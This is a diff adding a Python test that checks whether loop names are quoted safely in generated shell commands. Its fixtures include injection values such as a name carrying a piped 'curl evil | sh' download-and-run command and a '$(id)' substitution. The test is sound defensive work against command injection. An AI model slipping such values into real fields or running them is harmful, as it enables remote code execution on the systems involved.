@@ -217,3 +217,12 @@ def test_any_row_that_can_be_read_has_a_story(item: dict[str, Any]) -> None:
     assert LoopStory.of(story).model_dump_json()
     show_story(story)
     show_listing([loop])
+
+
+def test_names_in_commands_are_one_word_for_a_shell() -> None:
+    loop = Loop(human_loop_name="a'; curl evil | sh\x1b", status="Failed", outcome="escalated")
+    last = Loop(human_loop_name="$(id)", status="Failed")
+    commands = [step.command for step in loop_story(loop, stage="dev").next]
+    assert all(r" $'a\'; curl evil | sh\x1B' --stage dev" in command for command in commands)
+    assert commands
+    assert loop_story(loop, stage="dev", after=[last]).next[0].command.endswith(" show '$(id)' --stage dev")
